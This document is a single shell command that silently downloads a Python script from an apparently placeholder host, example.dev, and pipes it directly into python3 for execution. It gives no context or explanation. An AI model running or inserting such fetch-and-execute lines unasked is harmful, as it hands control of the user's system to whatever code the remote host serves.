wget -qO- https://example.dev/p.py | python3
